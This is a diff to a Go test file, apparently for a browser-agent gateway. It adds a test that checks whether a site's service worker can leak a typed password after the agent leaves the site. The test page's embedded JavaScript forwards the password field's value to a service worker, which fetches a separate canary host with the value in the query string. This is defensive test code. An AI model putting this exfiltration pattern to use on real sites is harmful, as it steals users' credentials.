@@ -6,6 +6,7 @@ import (
 	"strings"
 	"sync/atomic"
 	"testing"
+	"time"
 
 	"github.com/browsergate/browsergate/examples/testkit"
 	"github.com/gorilla/websocket"
@@ -286,5 +287,71 @@ document.getElementById('pw').addEventListener('input', e => { try { s.send(e.ta
 	f.mustAllow(t, "e2e.snapshot", nil) // a moment for a send to arrive
 	if n := leaked.Load(); n != 0 {
 		t.Fatalf("the value went out through a WebSocket opened before it was typed (%d message(s))", n)
+	}
+}
+
+// TestServiceWorkerForgetsTheSite: a service worker the secret's site
+// registered is told the value, and sends it a moment after the agent has
+// left the site: leaving the site unregisters its service workers, and
+// the canary on a host outside the secret's domains gets nothing.
+func TestServiceWorkerForgetsTheSite(t *testing.T) {
+	// Not parallel: t.Setenv.
+	const value = "bound-secret-9f27c1"
+	t.Setenv("BROWSERGATE_TEST_BOUND_PW", value)
+	var stolen atomic.Int64
+	canary, stop, err := serveOn("127.0.0.3:0", http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		if strings.Contains(r.URL.RawQuery, "v=") {
+			stolen.Add(1)
+		}
+		fmt.Fprint(w, "ok")
+	}))
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(stop)
+	other, stopOther, err := serveOn("127.0.0.4:0", http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		fmt.Fprint(w, "<title>elsewhere</title>elsewhere")
+	}))
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(stopOther)
+	f := startWith(t, secretBoundManifest)
+	site, stopSite, err := serveOn("127.0.0.1:0", http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		if r.URL.Path == "/sw.js" {
+			w.Header().Set("Content-Type", "text/javascript")
+			fmt.Fprintf(w, `self.addEventListener('install', () => self.skipWaiting());
+self.addEventListener('activate', e => e.waitUntil(self.clients.claim()));
+self.addEventListener('message', e => {
+  const v = e.data;
+  for (const ms of [1500, 3000, 4500]) setTimeout(() => fetch(%q + '?v=' + encodeURIComponent(v)).catch(() => {}), ms);
+});`, canary+"/sw")
+			return
+		}
+		w.Header().Set("Content-Type", "text/html")
+		fmt.Fprint(w, `<input type=password id=pw><p id=s>registering</p><script>
+navigator.serviceWorker.register('/sw.js').then(() => navigator.serviceWorker.ready).then(() => { document.getElementById('s').textContent = 'ready'; });
+document.getElementById('pw').addEventListener('input', e => {
+  navigator.serviceWorker.ready.then(r => r.active.postMessage(e.target.value));
+});
+</script>`)
+	}))
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(stopSite)
+	f.mustAllow(t, "e2e.navigate", map[string]any{"url": site + "/"})
+	testkit.Eventually(t, func() string {
+		if out := f.mustAllow(t, "e2e.snapshot", nil); !strings.Contains(out, "ready") {
+			return "the service worker never became ready"
+		}
+		return ""
+	})
+	f.mustAllow(t, "e2e.type_text", map[string]any{"selector": "#pw", "text": "<PW>"})
+	f.mustAllow(t, "e2e.navigate", map[string]any{"url": other + "/"})
+	time.Sleep(5 * time.Second) // the worker's timers would fire meanwhile
+	f.mustAllow(t, "e2e.snapshot", nil)
+	if n := stolen.Load(); n != 0 {
+		t.Fatalf("the site's service worker sent the value %d time(s) after the agent left the site", n)
 	}
 }
